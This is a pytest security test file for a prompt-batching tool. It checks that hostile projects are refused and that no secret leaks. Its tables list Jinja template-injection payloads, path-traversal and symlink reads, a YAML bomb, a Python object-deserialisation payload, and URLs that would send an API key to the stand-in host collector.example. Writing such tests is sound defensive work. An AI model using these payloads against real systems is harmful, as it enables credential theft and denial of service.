"""Projects of people whom nobody trusts yet: each attempt is refused, and nothing of the machine's secrets is left
anywhere, in files, in their names, or in what was said."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from tests.builders import OUTPUT, Finished, ProjectFiles
from tests.conftest import StartEmulator

KEY = "sk-ant-test-3f9c71d8e2"
TOKEN = "ghp-test-81b7aa40c6"
OUTSIDE = "the-machines-own-9d2f"
ENV = "{{ env_var('ANTHROPIC_API_KEY') }}"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)

JOBS: dict[str, dict[str, Any]] = {
    "environment in a prompt": {"user": "{{ env_var('CI_TOKEN') }}"},
    "environment by the globals of a function": {"user": "{{ cycler.__init__.__globals__.os.environ }}"},
    "environment by a method": {"user": "{{ row.text.format.__globals__ }}"},
    "classes of a text": {"user": "{{ ''.__class__.__base__.__subclasses__() }}"},
    "attributes by a filter": {"user": "{{ row.text | attr('__class__') | attr('__mro__') }}"},
    "the template itself": {"user": "{{ self.__init__.__globals__ }}"},
    "format strings": {"user": "{{ '{0.__class__.__mro__}'.format(row) }}"},
    "environment in vars": {"vars": {"token": "{{ env_var('CI_TOKEN') }}"}, "user": "{{ vars.token }}"},
    "an absolute output": {"output": {"file": "/tmp/batchforge-hostile.jsonl"}},
    "an output above the project": {"output": {"file": "../stolen.jsonl"}},
    "an absolute input": {"input": {"file": "{outside}/secret.jsonl", "key": ["id"]}},
    "an input above the project": {"input": {"file": "../outside/secret.jsonl", "key": ["id"]}},
    "an input by a link": {"input": {"file": "data/link.jsonl", "key": ["id"]}},
    "inputs by a linked folder": {"input": {"file": "data/folder/*.jsonl", "key": ["id"]}},
    "a prompt by a link": {"system": {"file": "prompts/link.md.j2"}},
    "an absolute prompt": {"system": {"file": "{outside}/secret.txt"}},
    "an include above the prompts": {"user": "{% include '../../outside/secret.txt' %}"},
    "an absolute include": {"user": "{% include '{outside}/secret.txt' %}"},
    "an include by a link": {"user": "{% include 'link.md.j2' %}"},
    "an include that a row names": {"user": "{% include row.text %}", "rows": ["../../outside/secret.txt"]},
    "a template that never ends": {
        "user": "{% for a in range(9999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}"
        "{% endfor %}{% endfor %}" + "{{ 'x' * 10 ** 9 }}",
        "system": "{{ 'x' * 10 ** 9 }}",
    },
    "a query that reads other files": {
        "input": {"sql": "select * from read_json('{outside}/secret.jsonl')", "key": ["id"]}
    },
    "a query that names another file": {"input": {"sql": "select * from '{outside}/secret.jsonl'", "key": ["id"]}},
    "a query that copies into a file": {"input": {"sql": "copy (select 1 as id) to 'x.csv'", "key": ["id"]}},
    "documents by a linked folder": {
        "input": {"files": "data/folder/*.txt", "format": "document"},
        "user": [{"document": "row.file"}, {"text": "?"}],
    },
    "rows of somebody else's bucket": {"input": {"file": "s3://other/rows.jsonl", "key": ["id"]}},
    "documents of somebody else's bucket": {"user": [{"document": "s3://other/a.pdf"}, {"text": "?"}]},
    "the environment in the address of a document": {
        "user": [{"document": "https://collector.example/{{ env_var('CI_TOKEN') }}.pdf"}, {"text": "?"}]
    },
    "answers into somebody else's bucket": {"output": {"file": "s3://other/answers.jsonl"}},
    "a bucket that begins like an allowed one": {"output": {"file": "s3://own/insight/answers.jsonl"}},
    "the environment in the address of the answers": {"output": {"file": "s3://own/in/" + ENV + ".jsonl"}},
    "a template that fills the memory": {"user": "{{ ('x' * 10 ** 9) * 10 }}"},
}
PROJECT_FILES: dict[str, str] = {
    "a YAML bomb": BOMB,
    "code in YAML": "name: small\nversion: 1\nvars: {x: !!python/object/apply:os.getenv [CI_TOKEN]}\n",
    "environment in the project's vars": "name: small\nversion: 1\nvars: {x: \"{{ env_var('CI_TOKEN') }}\"}\n",
}
TARGETS: dict[str, Mapping[str, Any]] = {
    "the key to another host": {"base_url": "https://collector.example", "api_key": ENV},
    "the key in the address": {"base_url": "https://collector.example/" + ENV},
    "the key as a host name": {"base_url": "https://" + ENV + ".collector.example"},
    "the key as the state's password elsewhere": {"state": f"postgresql://me:{ENV}@collector.example/x"},
    "the key as the state's file": {"state": f"sqlite:///{ENV}.db"},
    "the key as the state's host": {"state": f"postgresql://me@{ENV}/x"},
    "the key as the state's database": {"state": f"postgresql://me@127.0.0.1:1/{ENV}"},
    "the key as the state's folder": {"state": f"file:///tmp/{ENV}"},
    "the key as the state's address": {"state": ENV},
    "the key as the outputs' folder": {"outputs": ENV},
    "the state into somebody else's bucket": {"state": "s3://other/state"},
    "another host behind a harmless one": {"state": "postgresql://me@127.0.0.1/x?host=collector.example"},
}


@pytest.fixture
def hostile(tmp_path: Path, start_emulator: StartEmulator, monkeypatch: pytest.MonkeyPatch) -> Iterator[ProjectFiles]:
    """A project beside secrets of the machine, with links to them."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(OUTSIDE)
    (outside / "secret.jsonl").write_text(json.dumps({"id": "1", "text": OUTSIDE}) + "\n")
    project = ProjectFiles(tmp_path / "project", start_emulator(), api_key=ENV)
    project.path("data/link.jsonl").symlink_to(outside / "secret.jsonl")
    project.path("data/folder").symlink_to(outside)
    project.path("prompts/link.md.j2").symlink_to(outside / "secret.txt")
    yield project
    assert [path for path in left_behind(tmp_path) if any(secret in read(path) for secret in all_secrets())] == []


def with_secrets(project: ProjectFiles, *words: str) -> Finished:
    return project.cli(*words, ANTHROPIC_API_KEY=KEY, CI_TOKEN=TOKEN, BATCHFORGE_ALLOWED_STORES="s3://own/in")


def all_secrets() -> list[str]:
    return [KEY, TOKEN, OUTSIDE]


def left_behind(folder: Path) -> Iterator[Path]:
    for base, folders, files in os.walk(folder):
        for name in (*folders, *files):
            if "outside" not in Path(base, name).parts[-3:]:
                yield Path(base, name)


def read(path: Path) -> str:
    """A file's name and all that it holds."""
    content = path.read_bytes().decode("latin-1") if path.is_file() and not path.is_symlink() else ""
    return f"{path}\n{content}"


def check(project: ProjectFiles) -> str:
    """Every command of a pull request ends, and says nothing of a secret; what `run` says."""
    said = ""
    for words in (("parse",), ("plan",), ("run", "--yes")):
        finished = with_secrets(project, *words)
        said = finished.stdout + finished.stderr
        assert [secret for secret in all_secrets() if secret in said] == [], words
        assert "Traceback" not in said, words
    assert finished.exit_code != 0, said
    assert "BF" in said, said
    assert project.emulator is not None
    assert project.emulator.counters().requests_accepted == 0
    assert not project.path(OUTPUT).exists()
    return said


@pytest.mark.parametrize("name", JOBS)
def test_a_hostile_job_is_refused(hostile: ProjectFiles, name: str) -> None:
    outside = str(hostile.root.parent / "outside")
    settings = json.loads(json.dumps(JOBS[name]).replace("{outside}", outside))
    if rows := settings.pop("rows", None):
        hostile.write_rows(rows)
    hostile.write_job(**settings)
    check(hostile)


@pytest.mark.parametrize("name", PROJECT_FILES)
def test_a_hostile_project_file_is_refused(hostile: ProjectFiles, name: str) -> None:
    hostile.write("batchforge.yml", PROJECT_FILES[name])
    check(hostile)


@pytest.mark.parametrize("name", TARGETS)
def test_a_hostile_target_is_refused(hostile: ProjectFiles, name: str) -> None:
    hostile.write_project(**TARGETS[name])
    check(hostile)


def test_a_path_of_a_job_is_no_template(hostile: ProjectFiles) -> None:
    hostile.write_job(output={"file": f"outputs/{ENV}.jsonl"})
    assert with_secrets(hostile, "run").exit_code == 0
    assert hostile.path(f"outputs/{ENV}.jsonl").exists()


def test_a_run_leaves_no_key_behind(hostile: ProjectFiles) -> None:
    for words in (("run",), ("state", "show"), ("state", "export"), ("debug",), ("plan",), ("compile",), ("run", "-v")):
        finished = with_secrets(hostile, *words)
        assert [secret for secret in all_secrets() if secret in finished.stdout + finished.stderr] == []
    assert len(hostile.rows_of()) == 3


def test_without_keys_a_pull_request_is_parsed_compiled_and_planned(hostile: ProjectFiles) -> None:
    for words in (("parse",), ("compile",), ("plan",)):
        finished = hostile.cli(*words)
        assert finished.exit_code == 0, finished.stderr
